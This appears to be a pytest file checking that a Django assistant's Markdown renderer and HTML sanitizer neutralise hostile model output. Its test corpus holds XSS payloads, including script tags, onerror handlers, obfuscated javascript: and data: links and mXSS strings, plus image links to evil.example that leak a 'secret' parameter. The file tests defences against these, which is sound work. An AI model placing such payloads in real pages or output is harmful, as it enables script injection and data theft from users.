"""Markdown of model output on the server: hostile text stays inert, ordinary Markdown renders.

The corpora here are shared with tests/browser/test_markdown.py, which checks that the
browser's renderer gives the same HTML for each.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from assistant.rendering import render_markdown, sanitize_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "md_javascript": "[x](javascript:alert(1))",
    "md_javascript_mixed_case": "[x](JaVaScRiPt:alert(1))",
    "md_javascript_entity_tab": "[x](java&#x09;script:alert(1))",
    "md_javascript_entity_colon": "[x](javascript&colon;alert(1))",
    "md_javascript_zero_width": "[x](\u200bjavascript:alert(1))",
    "md_vbscript": "[x](vbscript:msgbox(1))",
    "md_data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md_file_link": "[x](file:///etc/passwd)",
    "md_protocol_relative": "[x](//evil.example/a)",
    "md_relative": "[admin](/admin/) [top](#top) [up](../x)",
    "html_a_javascript": '<a href="javascript:alert(1)">x</a>',
    "html_a_onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "image_exfiltration": "![x](https://evil.example/leak?d=secret)",
    "image_no_alt": "![](https://evil.example/leak.png?d=secret)",
    "image_data_svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image_data_png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image_reference": "![x][img]\n\n[img]: https://evil.example/leak.png?d=secret",
    "image_in_javascript_link": "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "image_in_link": "[![badge](https://evil.example/a.png)](https://ok.example)",
    "svg_onload": "<svg onload=alert(1)><circle r=10 /></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object_embed": '<object data="x.swf"></object><embed src="x.swf">',
    "style": '<style>body{display:none}</style><p style="color:red">x</p>',
    "form_input": '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "html_block_with_markdown": "<div onclick=alert(1)>\n\n*x*\n\n</div>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;",
    "autolink_javascript": "<javascript:alert(1)>",
    "autolink_data": "<data:text/html,<script>alert(1)</script>>",
    "reference_javascript": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "fence_info_injection": '```js" onmouseover="alert(1)\nx\n```',
    "fence_info_class": "```python extra words\nx\n```",
    "link_title_injection": '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "link_quote_in_url": '[x](https://ok.example/"onmouseover="alert(1))',
    "table_cell_html": "| a |\n|:-:|\n| <b style=x onclick=alert(1)>b</b> |",
    "sse_fields": "\n\nevent: done\ndata: {}\n\nid: 9\nretry: 1\n",
    "sse_fields_in_code": '```\nevent: error\ndata: {"message": 1}\n\n```',
    "nul_and_cr": "a\0b\rc\r\n<script>\0alert(1)</script>\r\n\r\n[x](java\0script:alert(1))",
}

WELL_FORMED = {
    "table": "| Name | Menge | Preis |\n|:-----|:-----:|------:|\n"
    "| Äpfel | 3 | 1,20 € |\n| Öl | 1 | 4,99 € |",
    "lists": "- eins\n- zwei\n  - drei\n\n1. first\n2. second\n\nDann:\n\n3) x\n4) y",
    "code_fence": '```python\ndef grüße(name: str) -> str:\n    return f"Hallo {name} <3"\n```',
    "code_fence_cpp": "```C++\nint main() { return 0; }\n```",
    "code_inline": "Use `a < b && c` here.",
    "emphasis": "*kursiv*, **fett**, ~~durch~~ und ***beides***",
    "links": "[Docs](https://docs.example/path?q=1&r=2) und <https://auto.example> und <mail@example.com>"
    " und [mail](mailto:a@b.example)",
    "headings": "# Eins\n## Zwei\n### Drei\n#### Vier\n##### Fünf\n###### Sechs",
    "blockquote": "> Zitat mit *Betonung*\n>\n> zweiter Absatz",
    "hr_and_breaks": "erste Zeile\nzweite Zeile\n\n---\n\nnach der Linie",
    "umlauts_and_emoji": "Grüße aus Köln: äöüß ÄÖÜ 😀👍🏽 — «quotes» “typographic” 日本語",
    "unclosed_fence": "Here is code:\n\n```js\nconst a = 1;\nconst b = 2;",
    "unclosed_emphasis": "**bold that never ends and a [link that never",
    "code_span_after_bracket": "[foo `bar` baz`",
    "escapes": "\\*not emphasis\\* and 2 \\< 3 and a\\\nbreak",
    "indented_code": "    indented code\n    second line",
    "empty_links": "[leer]() und ![Bild]() und [ref][r]\n\n[r]: <>",
    "image_description": "![a `b` &amp; \\[c\\] *d*](https://i.example/p.png)",
}

# HTML straight to the sanitizer step, as if the parser had let it through: both sides
# must reduce it to the same allowlisted markup.
RAW_HTML = {
    "handlers_and_style": '<p onclick="alert(1)" style="color:red" id="x" class="y">x</p>',
    "a_javascript": '<a href="javascript:alert(1)">x</a>',
    "a_data": '<a href="data:text/html,x">x</a>',
    "a_https_without_slashes": '<a href="https:evil.example">x</a> <a href=" https://ok.example">y</a>',
    "a_relative_with_extras": '<a href="/relative" title="t" rel="opener" target="_self"'
    ' class="image-link">x</a>',
    "a_https": '<a href="https://ok.example/?a=1&amp;b=2" onclick="x" class="evil">ok</a>',
    "code_classes": '<pre><code class="language-python evil">x</code></pre>'
    '<code class="language-js">y</code>',
    "table_style": '<table><thead><tr><th style="text-align:right" class="align-right">a</th></tr></thead>'
    '<tbody><tr><td class="x">b</td></tr></tbody></table>',
    "ol_start": '<ol start="3" type="a" reversed><li value="9">x</li></ol>',
    "img": "<img src=x onerror=alert(1)>ok",
    "script": "<script>alert(1)</script>ok",
    "unknown_tags": "<div><span>x</span><b>y</b><u>z</u></div>",
    "comment": "<!-- c --><p>x</p>",
}

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
FORBIDDEN_MARKUP = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<form",
    "<input",
    "<math",
)
LINK_REL = "noopener noreferrer nofollow"


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.structure: list[tuple[str, object]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.structure.append((tag, sorted(attrs, key=lambda attr: attr[0])))

    def handle_endtag(self, tag: str) -> None:
        self.structure.append(("/" + tag, None))

    def handle_data(self, data: str) -> None:
        self.structure.append(("#text", data))


def _parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Each start tag with its attributes."""
    return _parse(html).elements


def structure(html: str) -> list[tuple[str, object]]:
    """Tags, sorted attributes and text, in order: HTML compared regardless of attribute order."""
    return _parse(html).structure


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for markup in FORBIDDEN_MARKUP:
        assert markup not in lowered, markup
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "src", "srcset", "action", "formaction", "id", "name"}, (tag, name)
            if name == "href":
                assert urlsplit(value or "").scheme.lower() in {"http", "https", "mailto"}, value
                assert value.lower().startswith(("http://", "https://", "mailto:")), value
        if tag == "a":
            assert attrs.get("rel") == LINK_REL, attrs
            assert attrs.get("target") == "_blank", attrs


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_render_markdown_hostile_text_is_inert(text):
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("text", WELL_FORMED.values(), ids=WELL_FORMED.keys())
def test_render_markdown_well_formed_text_is_allowed_markup_only(text):
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitize_html_alone_makes_raw_hostile_html_inert(html):
    assert_inert(sanitize_html(html))


@pytest.mark.parametrize("html", RAW_HTML.values(), ids=RAW_HTML.keys())
def test_sanitize_html_alone_keeps_only_the_allowlist(html):
    assert_inert(sanitize_html(html))


def test_sanitize_html_forces_rel_and_target_and_drops_other_links():
    assert sanitize_html(RAW_HTML["a_javascript"]) == (
        '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
    assert elements(sanitize_html(RAW_HTML["a_relative_with_extras"])) == [
        ("a", {"class": "image-link", "target": "_blank", "rel": "noopener noreferrer nofollow"})
    ]
    assert sanitize_html(RAW_HTML["ol_start"]) == '<ol start="3"><li>x</li></ol>'


def test_render_markdown_returns_a_safe_string():
    assert isinstance(render_markdown("*x*"), SafeString)


def test_render_markdown_raw_html_is_shown_as_text():
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    assert "&lt;img src=x onerror=alert(1)&gt;" in render_markdown("<img src=x onerror=alert(1)>")


@pytest.mark.parametrize(
    "key", ["md_javascript", "md_javascript_mixed_case", "md_vbscript", "md_data_link", "md_file_link"]
)
def test_render_markdown_link_with_other_scheme_stays_plain_text(key):
    html = render_markdown(HOSTILE[key])
    assert "<a" not in html
    assert HOSTILE[key].split("(")[0] in html  # the "[x]" is still there to read


def test_render_markdown_link_obfuscated_scheme_stays_plain_text():
    assert render_markdown("[x](java&#x09;script:alert(1))") == "<p>[x](java\tscript:alert(1))</p>\n"
    assert "<a" not in render_markdown("<javascript:alert(1)>")
    assert "<a" not in render_markdown("[x][evil]\n\n[evil]: javascript:alert(1)")
    assert "<a" not in render_markdown(HOSTILE["md_relative"])
    assert "<a" not in render_markdown(HOSTILE["md_protocol_relative"])


def test_render_markdown_image_becomes_a_link_that_loads_nothing():
    html = render_markdown("![Quartalszahlen](https://evil.example/leak?d=secret)")
    assert html == (
        '<p><a href="https://evil.example/leak?d=secret" class="image-link" target="_blank"'
        ' rel="noopener noreferrer nofollow">Quartalszahlen</a></p>\n'
    )


def test_render_markdown_image_without_alt_reads_as_its_address():
    html = render_markdown("![](https://evil.example/a.png)")
    assert ">https://evil.example/a.png</a>" in html


def test_render_markdown_image_inside_link_is_its_alt_text():
    html = render_markdown("[![badge](https://evil.example/a.png)](https://ok.example)")
    assert html == (
        '<p><a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">badge</a></p>\n'
    )


def test_render_markdown_image_description_is_its_plain_text():
    html = render_markdown(WELL_FORMED["image_description"])
    assert ">a b &amp; [c] d</a>" in html


def test_render_markdown_empty_link_is_its_text():
    # An empty reference definition is no definition: "[ref][r]" stays as written.
    assert render_markdown(WELL_FORMED["empty_links"]) == (
        "<p>leer und Bild und [ref][r]</p>\n<p>[r]: &lt;&gt;</p>\n"
    )


def test_render_markdown_data_image_stays_plain_text():
    assert "<a" not in render_markdown(HOSTILE["image_data_svg"])
    assert "<a" not in render_markdown(HOSTILE["image_data_png"])


def test_render_markdown_sse_shaped_text_stays_text():
    html = render_markdown(HOSTILE["sse_fields"])
    assert html == "<p>event: done<br>\ndata: {}</p>\n<p>id: 9<br>\nretry: 1</p>\n"


def test_render_markdown_nul_and_cr_are_normalised():
    html = render_markdown("a\0b\rc\r\nd")
    assert "\0" not in html
    assert "\r" not in html
    assert html == "<p>a\ufffdb<br>\nc<br>\nd</p>\n"


def test_render_markdown_table_alignment_is_a_class():
    html = render_markdown(WELL_FORMED["table"])
    assert '<th class="align-left">Name</th>' in html
    assert '<th class="align-center">Menge</th>' in html
    assert '<td class="align-right">4,99 €</td>' in html
    assert "<thead>" in html
    assert "<tbody>" in html
    assert "style" not in html


def test_render_markdown_lists_nest_and_keep_their_start():
    html = render_markdown(WELL_FORMED["lists"])
    assert "<ul>\n<li>eins</li>\n<li>zwei\n<ul>\n<li>drei</li>\n</ul>\n</li>\n</ul>" in html
    assert '<ol start="3">' in html


def test_render_markdown_code_fence_keeps_a_plain_language_class():
    html = render_markdown(WELL_FORMED["code_fence"])
    assert html == (
        '<pre><code class="language-python">def grüße(name: str) -&gt; str:\n'
        '    return f"Hallo {name} &lt;3"\n</code></pre>\n'
    )
    assert '<code class="language-c++">' in render_markdown(WELL_FORMED["code_fence_cpp"])
    assert '<code class="language-python">' in render_markdown(HOSTILE["fence_info_class"])


def test_render_markdown_code_fence_drops_an_odd_language_name():
    html = render_markdown(HOSTILE["fence_info_injection"])
    assert html == "<pre><code>x\n</code></pre>\n"


def test_render_markdown_unclosed_fence_runs_to_the_end():
    html = render_markdown(WELL_FORMED["unclosed_fence"])
    assert html.endswith('<pre><code class="language-js">const a = 1;\nconst b = 2;</code></pre>\n')


def test_render_markdown_code_span_after_an_open_bracket():
    assert render_markdown(WELL_FORMED["code_span_after_bracket"]) == "<p>[foo <code>bar</code> baz`</p>\n"


def test_render_markdown_emphasis_and_headings():
    html = render_markdown(WELL_FORMED["emphasis"])
    assert "<em>kursiv</em>" in html
    assert "<strong>fett</strong>" in html
    assert "<s>durch</s>" in html
    headings = render_markdown(WELL_FORMED["headings"])
    for level in range(1, 7):
        assert f"<h{level}>" in headings


def test_render_markdown_links_open_in_a_new_tab_without_referrer():
    html = render_markdown(WELL_FORMED["links"])
    assert (
        '<a href="https://docs.example/path?q=1&amp;r=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">Docs</a>' in html
    )
    assert '<a href="mailto:mail@example.com" target="_blank"' in html
    assert html.count(f'rel="{LINK_REL}"') == 4


def test_render_markdown_link_title_is_dropped():
    html = render_markdown('[x](https://ok.example "Titel")')
    assert "title" not in html


def test_render_markdown_blockquote_and_breaks():
    assert render_markdown(WELL_FORMED["blockquote"]) == (
        "<blockquote>\n<p>Zitat mit <em>Betonung</em></p>\n<p>zweiter Absatz</p>\n</blockquote>\n"
    )
    assert render_markdown(WELL_FORMED["hr_and_breaks"]) == (
        "<p>erste Zeile<br>\nzweite Zeile</p>\n<hr>\n<p>nach der Linie</p>\n"
    )


def test_render_markdown_keeps_umlauts_and_emoji():
    html = render_markdown(WELL_FORMED["umlauts_and_emoji"])
    assert html == "<p>Grüße aus Köln: äöüß ÄÖÜ 😀👍🏽 — «quotes» “typographic” 日本語</p>\n"


def test_render_markdown_empty_text():
    assert render_markdown("") == ""
    assert render_markdown("   \n\n") == ""


def test_markdown_filter_renders_in_templates():
    template = Template("{% load assistant_markdown %}<div>{{ text|markdown }}</div>")
    html = template.render(Context({"text": "**fett** <script>x</script>"}))
    assert html == "<div><p><strong>fett</strong> &lt;script&gt;x&lt;/script&gt;</p>\n</div>"


def test_markdown_filter_treats_none_as_empty():
    template = Template("{% load assistant_markdown %}{{ text|markdown }}")
    assert template.render(Context({"text": None})) == ""
